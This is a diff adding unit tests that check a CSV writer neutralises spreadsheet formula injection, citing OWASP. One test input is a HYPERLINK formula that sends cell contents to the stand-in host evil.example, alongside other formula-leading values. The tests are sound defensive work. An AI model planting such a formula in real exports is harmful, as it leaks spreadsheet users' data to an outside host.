@@ -27,3 +27,35 @@ describe(toCsv.name, () => {
     expect(toCsv({ columns: ['a'], rows: [] })).toBe('a\r\n');
   });
 });
+
+describe('toCsv and spreadsheet formulas (OWASP CSV injection)', () => {
+  it.each([
+    [
+      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
+    ],
+    ['+1+1', `"'+1+1"`],
+    ['-2+3', `"'-2+3"`],
+    ['@SUM(A1:A2)', `"'@SUM(A1:A2)"`],
+    ['\t=1', `"'\t=1"`],
+    ['\r=1', `"'\r=1"`],
+  ])('prefixes %j with a quote and quotes the field', (value, written) => {
+    expect(toCsv({ columns: ['v'], rows: [{ v: value }] })).toBe(`v\r\n${written}\r\n`);
+  });
+
+  it('leaves numbers, including negative ones, as numeric cells', () => {
+    expect(toCsv({ columns: ['a', 'b', 'c'], rows: [{ a: -5, b: -0.5, c: 0 }] })).toBe(
+      'a,b,c\r\n-5,-0.5,0\r\n',
+    );
+  });
+
+  it('leaves text with a formula character after the first one as it is', () => {
+    expect(toCsv({ columns: ['v'], rows: [{ v: 'a=b' }, { v: ' =1' }, { v: "'quoted" }] })).toBe(
+      "v\r\na=b\r\n =1\r\n'quoted\r\n",
+    );
+  });
+
+  it('neutralises a header that would start a formula too', () => {
+    expect(toCsv({ columns: ['=x'], rows: [] })).toBe(`"'=x"\r\n`);
+  });
+});
